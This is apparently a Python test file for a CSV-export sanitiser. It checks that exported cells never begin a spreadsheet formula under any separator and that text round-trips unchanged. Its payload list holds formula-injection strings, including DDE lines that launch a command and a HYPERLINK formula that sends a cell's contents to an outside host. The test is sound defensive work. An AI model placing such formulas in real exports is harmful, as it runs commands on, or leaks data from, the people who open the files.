"""No cell of ours begins a formula, whatever a text holds and however the file is split; and every text comes back as it was."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kit.csv_cells import as_typed, csv_lines, harmless

TRIGGERS = "=+-@\t\r\0\uff1d\uff0b\uff0d\uff20"
PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://example.pe/?"&A1,"ver")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "''=1+1",
    " =1+1",
    "\uff1d1+1",
    "limpios; =1+1;",
    "limpios,=1+1,x",
    "limpios|@SUM(1)",
    'con "comillas";=1+1',
    "dos\n=líneas",
)
texts = st.text(st.one_of(st.sampled_from(TRIGGERS + "'\",;|\n ab"), st.characters(codec="utf-8")), max_size=30)


@pytest.mark.parametrize("separator", [",", ";"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_begins_a_formula_in_a_spreadsheet_that_splits_at_another_separator(payload: str, separator: str) -> None:
    written = csv_lines([["A-1", harmless(payload), "fin"]], separator).decode()
    for other in (",", ";", "\t", "|"):
        cells = [cell for row in csv.reader(io.StringIO(written, newline=""), delimiter=other) for cell in row]
        assert not [cell for cell in cells if cell.lstrip()[:1] in set(TRIGGERS)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_comes_back_as_it_was(payload: str) -> None:
    assert as_typed(harmless(payload)) == payload


@settings(max_examples=1000)
@given(texts)
def test_every_text_comes_back_as_it_was(text: str) -> None:
    assert as_typed(harmless(text)) == text


@settings(max_examples=1000)
@given(texts)
def test_no_text_begins_a_formula(text: str) -> None:
    assert harmless(text)[:1] not in set(TRIGGERS)


@pytest.mark.parametrize("text", ["Retazos de algodón, limpios", "5-10 kg", "a=b", "x@example.pe", "d'Anjou", "'entre comillas'", ""])
def test_an_ordinary_text_is_left_alone(text: str) -> None:
    assert harmless(text) == text
